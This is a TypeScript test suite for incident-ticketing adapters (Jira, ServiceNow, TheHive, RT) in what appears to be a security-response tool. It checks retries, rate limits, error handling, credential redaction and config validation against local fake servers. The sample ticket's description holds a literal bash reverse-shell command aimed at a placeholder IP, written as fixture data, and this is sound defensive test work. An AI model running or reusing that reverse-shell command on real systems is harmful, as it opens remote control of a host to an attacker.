/**
 * Each vendor adapter against a local server that speaks the vendor's documented API
 * (test/fakes/ticketing): the full cycle, retries that change nothing, a lost answer to a create, rate
 * limits, 4xx reasons, 5xx, and wrong credentials. Redmine is tested against the real server
 * (redmine.test.ts).
 */
import { ApplicationFailure } from '@temporalio/common';
import { MockActivityEnvironment } from '@temporalio/testing';
import { afterEach, describe, expect, it } from 'vitest';
import type { FakeServer, FakeTicket } from '../../test/fakes/ticketing/common.js';
import { startJiraFake } from '../../test/fakes/ticketing/jira.js';
import { startRtFake } from '../../test/fakes/ticketing/rt.js';
import { startServiceNowFake } from '../../test/fakes/ticketing/servicenow.js';
import { startTheHiveFake } from '../../test/fakes/ticketing/thehive.js';
import { createTicketingClient, incidentMarker } from './client.js';
import { loadTicketingConfig } from './config.js';
import { createTicketingActivities } from './index.js';
import type { NewTicketInput, TicketRef } from './types.js';

interface Vendor {
  name: string;
  start(): Promise<FakeServer & { tickets(): FakeTicket[] }>;
  env(f: FakeServer): Record<string, string>;
  /** The key holding the credential, and a wrong value for it. */
  wrongCredential: [key: string, value: string];
  secretOf(f: FakeServer): string;
  createPath: RegExp;
  openStatus: string;
  progressStatus: string;
  closedStatus: string;
  checkClosing(t: FakeTicket, marker: string): void;
}

const common = {
  VIGIL_TICKETING_ALLOW_HTTP: 'true',
  VIGIL_OUTBOUND_ALLOW: '127.0.0.1/32',
  VIGIL_TICKETING_TIMEOUT: '3s',
};

const VENDORS: Vendor[] = [
  {
    name: 'jira',
    start: startJiraFake,
    env: (f) => ({
      ...common,
      VIGIL_TICKETING: 'jira',
      JIRA_URL: f.url,
      JIRA_EMAIL: 'soc-bot@corp.example',
      JIRA_API_TOKEN: 'jira-api-token-123',
      JIRA_PROJECT: 'SEC',
    }),
    wrongCredential: ['JIRA_API_TOKEN', 'wrong-jira-token'],
    secretOf: () => 'jira-api-token-123',
    createPath: /^\/rest\/api\/3\/issue$/,
    openStatus: 'To Do',
    progressStatus: 'In Progress',
    closedStatus: 'Done',
    checkClosing: (t, marker) => expect(t.closing.labels).toEqual(['vigil', marker, 'severity-high']),
  },
  {
    name: 'servicenow',
    start: startServiceNowFake,
    env: (f) => ({
      ...common,
      VIGIL_TICKETING: 'servicenow',
      SERVICENOW_URL: f.url,
      SERVICENOW_USER: 'vigil.integration',
      SERVICENOW_PASSWORD: 'sn-password-456',
    }),
    wrongCredential: ['SERVICENOW_PASSWORD', 'wrong-sn-password'],
    secretOf: () => 'sn-password-456',
    createPath: /^\/api\/now\/table\/incident$/,
    openStatus: 'New',
    progressStatus: 'In Progress',
    closedStatus: 'Resolved',
    checkClosing: (t, marker) =>
      expect(t.closing).toMatchObject({
        correlation_id: marker,
        close_code: 'Solution provided',
        close_notes: 'Verdict: malicious. host isolated after approval',
        impact: '1',
        urgency: '2',
      }),
  },
  {
    name: 'thehive',
    start: startTheHiveFake,
    env: (f) => ({
      ...common,
      VIGIL_TICKETING: 'thehive',
      THEHIVE_URL: f.url,
      THEHIVE_API_KEY: 'thehive-key-abc',
    }),
    wrongCredential: ['THEHIVE_API_KEY', 'wrong-hive-key'],
    secretOf: () => 'thehive-key-abc',
    createPath: /^\/api\/v1\/case$/,
    openStatus: 'New',
    progressStatus: 'InProgress',
    closedStatus: 'TruePositive',
    checkClosing: (t, marker) =>
      expect(t.closing).toMatchObject({
        summary: 'host isolated after approval',
        tags: ['vigil', marker],
        severity: 3,
      }),
  },
  {
    name: 'rt',
    start: startRtFake,
    env: (f) => ({ ...common, VIGIL_TICKETING: 'rt', RT_URL: f.url, RT_TOKEN: 'rt-auth-token-xyz' }),
    wrongCredential: ['RT_TOKEN', 'wrong-rt-token'],
    secretOf: () => 'rt-auth-token-xyz',
    createPath: /^\/REST\/2\.0\/ticket$/,
    openStatus: 'new',
    progressStatus: 'open',
    closedStatus: 'resolved',
    checkClosing: (t, marker) => expect(t.title.startsWith(`[${marker}] [Vigil]`)).toBe(true),
  },
];

const fakes: FakeServer[] = [];
afterEach(async () => {
  await Promise.all(fakes.splice(0).map((f) => f.close()));
});

function run<T>(activityId: string, fn: () => Promise<T>): Promise<T> {
  return new MockActivityEnvironment({
    activityId,
    workflowExecution: { workflowId: 'inc-vendor', runId: 'r1' },
  }).run(fn);
}
const caught = (p: Promise<unknown>) =>
  p.then(
    () => undefined,
    (e: unknown) => e as ApplicationFailure,
  );

const ticket = (incidentId: string): NewTicketInput => ({
  incidentId,
  title: 'Reverse shell on web-01',
  severity: 'high',
  description: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
  host: 'web-01',
  verdict: 'malicious',
  riskScore: 92,
});

describe.each(VENDORS)('$name adapter', (v) => {
  const setup = async (extra: Record<string, string> = {}) => {
    const fake = await v.start();
    fakes.push(fake);
    const a = createTicketingActivities(
      createTicketingClient(loadTicketingConfig({ ...v.env(fake), ...extra })),
    );
    return { fake, a };
  };

  it('creates one ticket however often create is retried, then updates, adds evidence and closes it once', async () => {
    const { fake, a } = await setup();
    const first = await run('1', () => a.createTicket(ticket('inc-1')));
    const again = await run('1', () => a.createTicket(ticket('inc-1')));
    expect(first.created).toBe(true);
    expect(again).toEqual({ ticket: first.ticket, created: false });
    expect(fake.tickets()).toHaveLength(1);
    expect(fake.tickets()[0]?.status).toBe(v.openStatus);
    expect(fake.tickets()[0]?.description).toContain('Incident: inc-1');

    const up = {
      ticket: first.ticket,
      stage: 'awaiting-approval',
      summary: 'isolate-host needs one approval',
    };
    expect(await run('2', () => a.updateTicket(up))).toEqual({ noted: true });
    expect(await run('2', () => a.updateTicket(up))).toEqual({ noted: false });
    expect(fake.tickets()[0]?.status).toBe(v.progressStatus);

    const ev = {
      ticket: first.ticket,
      title: 'lineage',
      items: [{ label: 'lineage', value: 'bash <- nginx' }],
    };
    expect(await run('3', () => a.addTicketEvidence(ev))).toEqual({ noted: true });
    expect(await run('3', () => a.addTicketEvidence(ev))).toEqual({ noted: false });

    const close = {
      ticket: first.ticket,
      verdict: 'malicious' as const,
      outcome: 'host isolated after approval',
    };
    expect(await run('4', () => a.closeTicket(close))).toEqual({ noted: true });
    expect(await run('4', () => a.closeTicket(close))).toEqual({ noted: false });
    await run('5', () => a.updateTicket({ ...up, stage: 'late', summary: 'late news' }));

    const [t] = fake.tickets();
    expect(t).toMatchObject({ status: v.closedStatus, closed: true });
    expect(t?.notes).toHaveLength(4);
    expect(t?.notes[0]).toContain('Vigil: stage awaiting-approval');
    expect(t?.notes[1]).toContain('lineage: bash <- nginx');
    expect(t?.notes[2]).toContain('host isolated after approval');
    v.checkClosing(t!, incidentMarker('inc-1'));
    expect(await run('6', () => a.findTicket({ incidentId: 'inc-1' }))).toEqual(first.ticket);
    expect(await run('7', () => a.findTicket({ incidentId: 'inc-2' }))).toBeNull();
  });

  it('finds the first ticket when the answer to the create was lost', async () => {
    const { fake, a } = await setup();
    fake.loseAnswer('POST', v.createPath);
    const lost = await caught(run('1', () => a.createTicket(ticket('inc-lost'))));
    expect([lost?.type, lost?.nonRetryable]).toEqual(['Unavailable', false]);
    expect(fake.tickets()).toHaveLength(1);
    const retry = await run('1', () => a.createTicket(ticket('inc-lost')));
    expect(retry.created).toBe(false);
    expect(retry.ticket.key).toBe(fake.tickets()[0]?.key);
    expect(fake.tickets()).toHaveLength(1);
  });

  it('waits for Retry-After on 429, then goes through', async () => {
    const { fake, a } = await setup();
    fake.fail(429, 'Rate limit exceeded', { 'Retry-After': '3' });
    const e = await caught(run('1', () => a.createTicket(ticket('inc-429'))));
    expect([e?.type, e?.nonRetryable, e?.nextRetryDelay]).toEqual(['RateLimited', false, 3000]);
    expect((await run('1', () => a.createTicket(ticket('inc-429')))).created).toBe(true);
    expect(fake.tickets()).toHaveLength(1);
  });

  it('fails for good on a 4xx, with the vendor reason', async () => {
    const { fake, a } = await setup();
    fake.fail(400, 'Field short_description is too long for this instance');
    const e = await caught(run('1', () => a.createTicket(ticket('inc-400'))));
    expect([e?.type, e?.nonRetryable]).toEqual(['UpstreamRejected', true]);
    expect(e?.message).toContain('Field short_description is too long for this instance');
    expect(fake.tickets()).toHaveLength(0);
  });

  it('retries a 5xx and creates the ticket once it is back', async () => {
    const { fake, a } = await setup();
    fake.fail(503, 'Service Unavailable', {}, 2);
    for (let i = 0; i < 2; i++) {
      const e = await caught(run('1', () => a.createTicket(ticket('inc-503'))));
      expect([e?.type, e?.nonRetryable]).toEqual(['Unavailable', false]);
    }
    expect((await run('1', () => a.createTicket(ticket('inc-503')))).created).toBe(true);
    expect(fake.tickets()).toHaveLength(1);
  });

  it('fails for good on wrong credentials, without echoing them', async () => {
    const [key, wrong] = v.wrongCredential;
    const { fake, a } = await setup({ [key]: wrong });
    const e = await caught(run('1', () => a.createTicket(ticket('inc-401'))));
    expect([e?.type, e?.nonRetryable]).toEqual(['Unauthenticated', true]);
    expect(JSON.stringify({ m: e?.message, d: e?.details, s: e?.stack })).not.toContain(wrong);
    expect(fake.tickets()).toHaveLength(0);
    expect(v.secretOf(fake)).not.toBe(wrong);
  });

  it('refuses a ticket recorded for another system', async () => {
    const { a } = await setup();
    const other: TicketRef = {
      system: v.name === 'jira' ? 'rt' : 'jira',
      id: '1',
      key: 'X-1',
      url: 'https://x',
    };
    const e = await caught(run('1', () => a.updateTicket({ ticket: other, stage: 's', summary: 'x' })));
    expect([e?.type, e?.nonRetryable]).toEqual(['Misconfigured', true]);
  });
});

describe('ticketing inputs and configuration', () => {
  it('refuses malformed input with the zod issues', async () => {
    const fake = await startRtFake();
    fakes.push(fake);
    const a = createTicketingActivities(createTicketingClient(loadTicketingConfig(VENDORS[3]!.env(fake))));
    const e = await caught(
      run('1', () => a.createTicket({ ...ticket('x'), severity: 'urgent' } as unknown as NewTicketInput)),
    );
    expect([e?.type, e?.nonRetryable]).toEqual(['InvalidInput', true]);
    expect(e?.message).toContain('severity');
    expect(fake.requests).toHaveLength(0);
  });

  it('names each missing key of the chosen system', () => {
    const problems = (env: Record<string, string>) => {
      try {
        loadTicketingConfig(env);
      } catch (e) {
        return (e as { problems: { key: string }[] }).problems.map((p) => p.key);
      }
      return [];
    };
    expect(problems({ VIGIL_TICKETING: 'jira', JIRA_URL: 'https://corp.atlassian.net' })).toEqual([
      'JIRA_EMAIL',
      'JIRA_API_TOKEN',
      'JIRA_PROJECT',
    ]);
    expect(
      problems({ VIGIL_TICKETING: 'servicenow', SERVICENOW_URL: 'https://corp.service-now.com' }),
    ).toEqual(['SERVICENOW_USER', 'SERVICENOW_PASSWORD']);
    expect(
      problems({
        VIGIL_TICKETING: 'servicenow',
        SERVICENOW_URL: 'https://corp.service-now.com',
        SERVICENOW_TOKEN: 't',
      }),
    ).toEqual([]);
    expect(problems({ VIGIL_TICKETING: 'thehive', THEHIVE_URL: 'https://hive.corp' })).toEqual([
      'THEHIVE_API_KEY',
    ]);
    expect(problems({ VIGIL_TICKETING: 'rt', RT_URL: 'https://rt.corp' })).toEqual(['RT_TOKEN']);
    expect(
      problems({ VIGIL_TICKETING: 'redmine', REDMINE_URL: 'https://redmine.corp', REDMINE_API_KEY: 'k' }),
    ).toEqual(['REDMINE_PROJECT']);
    expect(problems({ VIGIL_TICKETING: 'zendesk' })).toEqual(['VIGIL_TICKETING']);
    expect(
      problems({ VIGIL_TICKETING: 'thehive', THEHIVE_URL: 'https://169.254.169.254', THEHIVE_API_KEY: 'k' }),
    ).toEqual(['THEHIVE_URL']);
    expect(problems({})).toEqual([]);
  });

  it('fails every call as Misconfigured when ticketing is off', async () => {
    const a = createTicketingActivities(createTicketingClient(loadTicketingConfig({})));
    const e = await caught(run('1', () => a.createTicket(ticket('x'))));
    expect([e?.type, e?.nonRetryable]).toEqual(['Misconfigured', true]);
  });
});
